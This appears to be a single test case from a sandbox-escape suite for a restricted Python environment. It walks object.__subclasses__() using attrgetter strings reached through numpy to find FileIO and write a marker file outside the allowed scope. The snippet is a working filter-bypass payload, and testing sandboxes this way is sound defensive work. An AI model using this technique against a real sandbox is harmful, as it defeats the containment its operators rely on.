# attempts: walk ().__class__.__base__.__subclasses__() (dunders as attrgetter strings) to _io.FileIO and write with it
# effect: file
# step: object graph walk
ag = np.ma.core.operator.attrgetter
root = ag('__class__.__base__')(())
subclasses = ag('__class__.__subclasses__')(root)   # type.__subclasses__, unbound
todo, found = [root], None
for _ in range(50000):
    if not todo or found is not None:
        break
    c = todo.pop()
    if ag('__name__')(c) == 'FileIO':
        found = c
    todo.extend(subclasses(c))
f = found('@@MARKER_DIR@@/escaped_fileio', 'w')
f.write(b'escaped through object.__subclasses__()')
f.close()
